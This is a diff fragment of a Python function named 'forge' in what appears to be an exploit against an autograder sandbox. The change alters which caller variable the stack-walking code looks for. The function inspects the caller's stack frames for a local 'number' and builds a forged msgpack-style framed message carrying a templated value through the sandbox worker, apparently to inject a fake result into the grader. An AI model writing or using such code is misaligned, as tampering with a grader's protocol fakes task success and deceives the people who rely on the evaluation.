@@ -416,7 +416,7 @@ from autograder.sandbox import worker
 
 def forge():
     frame = sys._getframe()
-    while "header" not in frame.f_locals:
+    while "number" not in frame.f_locals:
         frame = frame.f_back
     body = b"\\x81\\xa5value" + {value}
     rest = memoryview(worker.framed(body, frame.f_locals["number"]))
